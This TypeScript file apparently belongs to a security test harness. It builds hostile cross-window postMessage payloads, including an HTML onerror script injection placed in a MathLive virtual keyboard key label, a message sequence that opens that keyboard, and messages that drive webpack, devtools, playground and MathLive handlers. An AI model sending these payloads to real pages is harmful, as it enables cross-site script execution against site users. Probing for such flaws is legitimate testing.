/** Messages to a page from a site that frames, opens or is opened by it. */

import type { MessagePayload } from "./types.ts";

const TYPE = "mathlive#virtual-keyboard-message";

/** Runs code where MathLive renders it: the labels of keys are HTML. */
const LABEL = '<img src="data:image/png," onerror="top.hit = 1">';

const layout = { label: "x", rows: [[{ label: LABEL, latex: "x" }]] };

/** Opens MathLive's keyboard with a key of the attacker, first to last. */
export const KEYBOARD: readonly object[] = [
  { type: TYPE, action: "connect" },
  { type: TYPE, action: "update-setting", layouts: [layout] },
  { type: TYPE, action: "show", animate: false },
];

const ACTIONS = [
  "disconnect",
  "proxy-created",
  "execute-command",
  "hide",
  "focus",
  "blur",
  "update-state",
  "update-toolbar",
  "synchronize-proxy",
  "geometry-changed",
  "before-virtual-keyboard-toggle",
  "virtual-keyboard-toggle",
];

/** All else that libraries of the page, or the page, might listen to. */
const OTHERS: readonly unknown[] = [
  ...ACTIONS.map((action) => ({ type: TYPE, action, command: ["deleteAll"] })),
  { type: TYPE, action: "update-setting", editToolbar: LABEL },
  { type: TYPE, action: "update-setting", container: null },
  { type: TYPE, action: "update-toolbar", toolbar: LABEL },
  { type: "webpackHotUpdate", data: "x" },
  { type: "webpackOk" },
  { type: "webpackInvalid" },
  { type: "start", source: { html: LABEL, css: "", js: "hit = 1" } },
  { type: "run", source: "hit = 1", language: "js", dry: false },
  { type: "print", entry: { level: "log", line: 1, parts: [{ text: LABEL }] } },
  { type: "need", specifier: "mathlive" },
  { type: "done", ms: 1 },
  "left",
  "failed",
  "pong",
  "setImmediate$0$1",
  '{"source":"react-devtools-bridge","payload":{"event":"shutdown"}}',
  null,
  undefined,
  Number.NaN,
  [],
  LABEL,
];

/** @returns The payloads that a window posts, the keyboard's in their order. */
export function messagePayloads(): readonly MessagePayload[] {
  const named = (messages: readonly unknown[], does: string) =>
    messages.map((message, index): MessagePayload => ({
      kind: "message",
      name: `${index + 1}: ${nameOf(message)}`,
      does,
      message,
    }));
  return [
    ...named(KEYBOARD, "opens a keyboard with a key that runs code"),
    ...named(OTHERS, "drives a library of the page"),
  ];
}

function nameOf(message: unknown): string {
  if (typeof message !== "object" || message === null) return String(message);
  const { type, action } = message as { type?: string; action?: string };
  return [type ?? "a list", action].filter(Boolean).join(" ");
}
